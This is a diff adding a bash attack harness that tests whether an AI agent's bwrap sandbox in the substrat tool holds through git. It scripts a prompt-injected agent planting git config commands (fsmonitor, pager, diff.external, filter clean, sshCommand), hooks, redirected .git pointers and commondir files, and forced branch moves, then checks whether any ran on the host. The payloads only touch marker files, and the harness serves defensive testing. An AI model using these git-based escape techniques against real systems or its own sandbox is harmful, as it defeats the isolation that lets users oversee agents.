@@ -1,0 +1,288 @@
+#!/usr/bin/env bash
+# git-sandbox.sh: a black-box attack harness for issue 26 ("the sandbox
+# holds through git"). It drives a real substrat binary as a user would
+# (daemon, CLI, the built-in script provider: no model), makes a
+# prompt-injected agent plant git configuration, hooks, pointers or refs
+# from inside its bwrap sandbox, then does what the daemon, the CLI and the
+# user ordinarily do next, and looks on the host for the result.
+#
+#   scripts/attacks/git-sandbox.sh SUBSTRAT [ATTACK...]   (default: all)
+#
+# Each attack gets a fresh home, repository and daemon under one temporary
+# directory (KEEP=1 keeps it). Every planted command is `touch $M/<what>`,
+# $M a directory that exists only on the host, so a file appearing there
+# means the command ran outside any sandbox. Results, per attack:
+#   HOST-COMMAND-RAN  a planted command ran on the host (the step is named)
+#   BRANCH-MOVED      a ref the attacking agent does not own changed
+#   ATTEMPTED         the plant landed somewhere, but nothing came of it
+#   BLOCKED           the sandbox refused the plant itself
+#   ERROR             the scenario could not be set up (see the log)
+#   N/A               the attack does not apply to this binary
+# Exit status 1 if any HOST-COMMAND-RAN or BRANCH-MOVED, 2 on usage error.
+set -u
+[ $# -ge 1 ] && [ -x "$1" ] || { echo "usage: $0 SUBSTRAT [ATTACK...]" >&2; exit 2; }
+S=$(readlink -f "$1"); shift
+ONLY=" $* "
+WAIT=${WAIT:-120}
+TOP=$(mktemp -d /tmp/git-sandbox.XXXXXX)
+export GIT_AUTHOR_NAME=user GIT_AUTHOR_EMAIL=user@example.invalid GIT_COMMITTER_NAME=user GIT_COMMITTER_EMAIL=user@example.invalid
+HOMES=() PIDS=() ROWS=() FAIL=0
+
+cleanup() {
+	for h in "${HOMES[@]}"; do timeout 30 "$S" --home "$h" daemon stop >/dev/null 2>&1; done
+	for p in "${PIDS[@]}"; do
+		if [ -r /proc/$p/cmdline ] && tr '\0' ' ' </proc/$p/cmdline | grep -q "daemon run --home $TOP/"; then kill -9 "$p" 2>/dev/null; fi
+	done
+	if [ "${KEEP:-0}" = 1 ]; then echo "kept $TOP"; else rm -rf "$TOP"; fi
+}
+trap cleanup EXIT
+trap 'exit 130' INT TERM
+
+# hgit: the harness's own look at the repository: no config but the repo's, no hooks.
+hgit() { GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null git -c core.fsmonitor=false -c core.hooksPath=/dev/null --git-dir="$R/.git" "$@"; }
+sub() { echo "\$ substrat $*" >>"$T/log"; timeout "$WAIT" "$S" --home "$H" "$@" >>"$T/log" 2>&1; }
+# ugit DIR ARGS: the user runs git in DIR, as anyone would (bounded in time).
+ugit() { local d=$1; shift; echo "\$ (cd $d && git $*)" >>"$T/log"; (cd "$d" && timeout 30 git "$@") >>"$T/log" 2>&1 </dev/null; }
+# upty DIR CMD: the same on a terminal (so that git starts its pager).
+upty() { echo "\$ [tty] (cd $1 && $2)" >>"$T/log"; (cd "$1" && unset GIT_PAGER PAGER && TERM=xterm timeout 30 script -qec "$2" /dev/null) >>"$T/log" 2>&1 </dev/null; }
+
+setup() { # NAME [git init options]: a repository, a home, a daemon, workspace team, agent lead
+	N=$1; shift
+	T=$TOP/$N R=$TOP/$N/repo H=$TOP/$N/home M=$TOP/$N/markers
+	PLANTED="" RAN="" MOVED="" NOTE="" NA=""
+	mkdir -p "$M" && : >"$T/log"
+	git init -q -b main "$@" "$R" && echo one >"$R/f" && git -C "$R" add f && git -C "$R" commit -qm one || return 1
+	if [ -n "${REPOCFG:-}" ]; then git -C "$R" config core.repositoryformatversion 1 && git -C "$R" config extensions.worktreeConfig true; fi
+	HOMES+=("$H")
+	echo "\$ substrat daemon start" >>"$T/log"
+	local out; out=$(timeout 60 "$S" --home "$H" daemon start 2>&1); echo "$out" >>"$T/log"
+	PIDS+=("$(echo "$out" | sed -n 's/.*(pid \([0-9]*\)).*/\1/p')")
+	ROOT=$H/workspaces/USER/team/root
+	sub workspace create team --git "$R" && sub agent create lead --provider script --workspace team
+}
+
+# The script every planting turn starts with: M, and evil DIR, which makes
+# DIR a git directory whose config, hooks and attributes run `touch $M/...`.
+prelude() {
+	cat <<EOF
+M='$M'
+ALT=\$(git rev-parse --path-format=absolute --git-common-dir 2>/dev/null)/objects
+evil() {
+	git init -q --bare --template= "\$1" || return 1
+	echo "\$ALT" >"\$1/objects/info/alternates"
+	cat >"\$1/config" <<EOC
+[core]
+	repositoryformatversion = 0
+	bare = false
+	fsmonitor = "touch \$M/fsmonitor; true"
+	pager = "touch \$M/pager; cat"
+	sshCommand = "touch \$M/sshcommand; false"
+[diff]
+	external = "touch \$M/diff-external; true"
+[filter "x"]
+	clean = "touch \$M/filter-clean; cat"
+[remote "origin"]
+	url = ssh://example.invalid/x
+EOC
+	mkdir -p "\$1/hooks"
+	for h in pre-commit post-checkout post-index-change reference-transaction; do
+		printf '#!/bin/sh\ntouch %s/hook-%s\n' "\$M" "\$h" >"\$1/hooks/\$h" && chmod +x "\$1/hooks/\$h"
+	done
+	GIT_DIR="\$1" GIT_WORK_TREE=/workspace git add f 2>/dev/null
+	return 0
+}
+cd /workspace
+EOF
+}
+# ash AGENT SCRIPT: the agent runs SCRIPT with its shell tool; a line PLANTED in its output says the plant landed.
+ash() {
+	local j; j=$(jq -cn --arg c "$(prelude)
+$2" '{command:$c}')
+	echo "\$ substrat agent send $1 '!shell ...'" >>"$T/log"
+	timeout "$WAIT" "$S" --home "$H" agent send "$1" "!shell $j" >"$T/out" 2>&1
+	cat "$T/out" >>"$T/log"
+	grep -Eq '(^|shell -> )PLANTED' "$T/out" && PLANTED=1
+	check "turn of $1"
+}
+# tool AGENT NAME ARGS: the agent calls one of its tools.
+tool() { sub agent send "$1" "!$2 $3"; check "$1's $2"; }
+snap() { OWN=$1; REFS0=$(hgit for-each-ref --format='%(refname) %(objectname)' | grep -Ev "^($OWN) "; echo "HEAD $(hgit symbolic-ref -q HEAD)"); }
+check() { # STEP: what appeared in $M, and what moved, since the last check
+	local f cur
+	local got; got=$(ls -A "$M" 2>/dev/null | tr '\n' ' ')
+	[ -n "$got" ] && RAN="$RAN [$1: ${got% }]" && rm -f "$M"/*
+	while read -r ref sha; do
+		if [ "$ref" = HEAD ]; then cur=$(hgit symbolic-ref -q HEAD); else cur=$(hgit rev-parse -q --verify "$ref" 2>/dev/null); fi
+		if [ "$cur" != "$sha" ]; then
+			[ "$ref" = HEAD ] || { sha=${sha:0:7} cur=${cur:0:7}; }
+			case "$MOVED" in *"$ref:"*) ;; *) MOVED="$MOVED $ref:$sha->$cur@[$1]" ;; esac
+		fi
+	done <<<"$REFS0"
+}
+finish() {
+	local res=BLOCKED
+	[ -n "$PLANTED" ] && res=ATTEMPTED
+	[ -n "$MOVED" ] && res=BRANCH-MOVED
+	[ -n "$RAN" ] && res=HOST-COMMAND-RAN && [ -n "$MOVED" ] && res=HOST-COMMAND-RAN+BRANCH-MOVED
+	[ -n "$NOTE" ] && res=ERROR
+	[ -n "$NA" ] && res=N/A
+	case $res in HOST*|BRANCH*) FAIL=1 ;; esac
+	ROWS+=("$(printf '%-6s %-16s %s' "$N" "$res" "${NOTE}${NA}${RAN}${MOVED}")")
+	sub daemon stop
+}
+want() { [ "$ONLY" = "  " ] || [[ $ONLY == *" $1 "* ]]; }
+run() { want "$1" || return 0; echo "== $1: $2" >&2; setup "$1" "${@:4}" || NOTE="setup failed "; snap 'refs/heads/substrat/team'; [ -z "$NOTE" ] && "$3"; finish; }
+
+# The triggers that read a workspace: the agent's own workspace_diff, the
+# CLI's workspace diff, and the user's git in the workspace's root.
+ws_triggers() {
+	tool lead workspace_diff '{"workspace":"team"}'
+	sub workspace diff team; check "substrat workspace diff"
+	ugit "$ROOT" status; check "user: git status in root"
+	ugit "$ROOT" diff; check "user: git diff in root"
+	upty "$ROOT" "git diff"; check "user: git diff in root (tty)"
+	ugit "$ROOT" fetch; check "user: git fetch in root"
+}
+
+# 1: the .git pointer (a file, a symlink, a directory) sent to a git dir of the agent's.
+a1() { # MODE
+	ash lead "evil .evil && echo 'f filter=x' >.gitattributes && echo two >>f || exit 1
+case $1 in
+file) [ -f .git ] || mv .git .git.orig; printf 'gitdir: .evil\n' >.git && echo PLANTED ;;
+link) mv .git .git.orig 2>/dev/null || rm -f .git; [ ! -e .git ] && ln -s .evil .git && echo PLANTED ;;
+dir) mv .git .git.orig 2>/dev/null || rm -f .git; [ ! -e .git ] && mv .evil .git && echo PLANTED ;;
+esac; ls -la .git; cat .git 2>/dev/null | head -3"
+	ws_triggers
+}
+a1file() { a1 file; }
+a1link() { a1 link; }
+a1dir() { a1 dir; }
+
+# 2: worker w1 sends its sibling w2's commondir to a git dir of its own; the lead diffs w2.
+a2() {
+	tool lead spawn_agent '{"name":"w1","instructions":"w1","worktree":true}'
+	tool lead spawn_agent '{"name":"w2","instructions":"w2","worktree":true}'
+	ash w1 'C=$(git rev-parse --path-format=absolute --git-common-dir); G=$(git rev-parse --absolute-git-dir)
+evil "$C/evil" || evil /workspace/.evil
+for d in "$C"/worktrees/* "$(git config remote.origin.url)"/worktrees/*; do
+	[ -d "$d" ] && [ "$d" != "$G" ] && echo "$C/evil" >"$d/commondir" && echo "PLANTED $d"
+done; echo two >>f'
+	ash w2 'echo three >>f; echo edited'
+	tool lead workspace_diff '{"workspace":"w2"}'
+	sub workspace diff lead/w2; check "substrat workspace diff lead/w2"
+}
+
+# 3: a repository without hooks/ (git init --template=): hooks in the shared git dir.
+a3() {
+	ash lead 'C=$(git rev-parse --path-format=absolute --git-common-dir); O=$(git config remote.origin.url)
+for g in "$C" "$O" "$(git rev-parse --absolute-git-dir)"; do
+	[ -n "$g" ] && [ -d "$g" ] || continue
+	mkdir -p "$g/hooks" 2>/dev/null
+	for h in post-checkout pre-commit post-commit reference-transaction; do
+		printf "#!/bin/sh\ntouch %s/hook-%s\n" "$M" "$h" >"$g/hooks/$h" && chmod +x "$g/hooks/$h" && echo "PLANTED $g/hooks/$h"
+	done
+done'
+	tool lead spawn_agent '{"name":"w1","instructions":"w1","worktree":true}'
+	sub workspace publish team; check "substrat workspace publish"
+	check "before the user's git"; ugit "$R" commit -q --allow-empty -m user; snap 'refs/heads/substrat/team'; check "user: git commit in repo"
+	ugit "$R" checkout -q -b user-topic; snap 'refs/heads/substrat/team'; check "user: git checkout in repo"
+}
+
+# 4: extensions.worktreeConfig on (the user's choice): core.fsmonitor in config.worktree.
+a4() {
+	ash lead 'C=$(git rev-parse --path-format=absolute --git-common-dir); O=$(git config remote.origin.url)
+for w in "own-gitdir $(git rev-parse --absolute-git-dir)" "common-dir $C" "origin $O"; do
+	f=${w#* }/config.worktree
+	printf "[core]\n\tfsmonitor = \"touch %s/fsmonitor-%s; true\"\n" "$M" "${w%% *}" >"$f" 2>/dev/null && echo "PLANTED $f"
+done; echo two >>f'
+	ws_triggers
+	ugit "$R" status; check "user: git status in repo"
+}
+
+# 5: move the user's main to a commit of the agent's (update-ref, push, the ref file, packed-refs, HEAD).
+plant5='git -c user.name=a -c user.email=a@x commit -q --allow-empty -m evil; X=$(git rev-parse HEAD)
+C=$(git rev-parse --path-format=absolute --git-common-dir); O=$(git config remote.origin.url)
+for t in main substrat/team substrat/w2; do
+	git update-ref "refs/heads/$t" "$X" && echo "PLANTED update-ref $t (own repo)"
+	for d in "$O" "$C"; do
+		[ -n "$d" ] || continue
+		git push -q -f "$d" "HEAD:refs/heads/$t" 2>/dev/null && echo "PLANTED push $t to $d"
+		mkdir -p "$(dirname "$d/refs/heads/$t")" 2>/dev/null; echo "$X" >"$d/refs/heads/$t" 2>/dev/null && echo "PLANTED ref file $d $t"
+		[ -f "$d/packed-refs" ] && sed -i "s|^[0-9a-f]* refs/heads/$t\$|$X refs/heads/$t|" "$d/packed-refs" 2>/dev/null && echo "PLANTED packed-refs $d"
+	done
+done
+for d in "$O" "$C"; do [ -n "$d" ] && echo "ref: refs/heads/substrat/w1" >"$d/HEAD" 2>/dev/null && echo "PLANTED HEAD $d"; done; true'
+a5() {
+	ash lead "$plant5"
+	sub workspace publish team; check "substrat workspace publish"
+	tool lead spawn_agent '{"name":"w1","instructions":"w1","worktree":true}'
+}
+# 5b: worker w1 moves its sibling w2's branch, its parent's and main.
+a5b() {
+	tool lead spawn_agent '{"name":"w1","instructions":"w1","worktree":true}'
+	tool lead spawn_agent '{"name":"w2","instructions":"w2","worktree":true}'
+	snap 'refs/heads/substrat/w1'
+	ash w1 "$plant5"
+	sub workspace publish lead/w1; check "substrat workspace publish lead/w1"
+	tool lead workspace_diff '{"workspace":"w2"}'
+}
+
+# 6: the workspace root itself made a git directory (HEAD, objects, refs, config): git's
+# discovery takes a directory holding those as a bare repository when its .git is not one.
+a6() {
+	ash lead 'mkdir -p objects refs/heads && echo "ref: refs/heads/main" >HEAD && cat >config <<EOC && echo PLANTED
+[core]
+	repositoryformatversion = 0
+	bare = false
+	worktree = .
+	fsmonitor = "touch $M/fsmonitor; true"
+	pager = "touch $M/pager; cat"
+EOC
+ls'
+	ws_triggers
+}
+
+# 7: hooks and config of the agent's own git dir, read-only in its sandbox, linked
+# read-write into a workspace of its scope (link_dir with the host path from mountinfo).
+a7() {
+	ash lead 'G=$(awk "\$5==\"/workspace/.git\"{print \$4}" /proc/self/mountinfo); echo "git dir on the host: $G"; echo "$G" >/workspace/.gd'
+	local g; g=$(cat "$ROOT/.gd" 2>/dev/null)
+	[ -n "$g" ] || { NA="n/a: /workspace/.git is no mount (not a clone) "; return; }
+	tool lead create_workspace '{"name":"x"}'
+	tool lead link_dir "$(jq -cn --arg s "$g" '{workspace:"x",source:$s,target:"/workspace/g",mode:"rw"}')"
+	tool lead spawn_agent '{"name":"c","instructions":"c","workspace":"x"}'
+	ash c 'cd /workspace/g && printf "[core]\n\tfsmonitor = \"touch %s/fsmonitor; true\"\n[extensions]\n\tworktreeConfig = true\n" "$M" >>config && echo PLANTED config &&
+printf "#!/bin/sh\ntouch %s/hook-post-checkout\n" "$M" >hooks/post-checkout && chmod +x hooks/post-checkout && echo PLANTED hooks'
+	ws_triggers
+	tool lead spawn_agent '{"name":"w1","instructions":"w1","worktree":true}'
+	sub workspace publish team; check "substrat workspace publish"
+}
+
+# 8: an agent's repository (in a plain workspace) that the user then makes a git workspace of.
+a8() {
+	sub workspace create lab && sub agent create labber --provider script --workspace lab
+	ash labber 'git init -q app && cd app && echo a >a && echo "* filter=x" >.gitattributes && git add . && git -c user.name=a -c user.email=a@x commit -qm x &&
+git config filter.x.clean "touch $M/filter-clean-HOME\$(echo \$HOME | tr / _); cat" &&
+git config core.fsmonitor "touch $M/fsmonitor; true" && echo PLANTED'
+	touch "$H/workspaces/USER/lab/root/app/a"
+	sub workspace create team8 --git "$H/workspaces/USER/lab/root/app"; check "substrat workspace create --git (agent's repo)"
+}
+
+run 1-file "pointer file .git -> agent's git dir" a1file
+run 1-link "pointer as a symlink" a1link
+run 1-dir ".git replaced by a directory" a1dir
+run 2 "sibling's commondir -> agent's git dir" a2
+run 3 "hooks in a template-less repository" a3 --template=
+REPOCFG=1 run 4 "config.worktree with extensions.worktreeConfig" a4
+run 5 "move main (update-ref, push, ref file, packed-refs, HEAD)" a5
+run 5b "worker moves sibling's and parent's branches" a5b
+run 6 "workspace root made a bare git dir" a6
+run 7 "own git dir's config/hooks linked read-write" a7
+run 8 "user makes a git workspace of an agent's repository" a8
+
+echo
+echo "substrat: $S"
+printf '%-6s %-16s %s\n' TEST RESULT "DETAIL ([step: markers that appeared] ref:old->new@[step])"
+printf '%s\n' "${ROWS[@]}"
+[ "${KEEP:-0}" = 1 ] || echo "(logs: KEEP=1 $0 ... keeps $TOP)"
+exit $FAIL
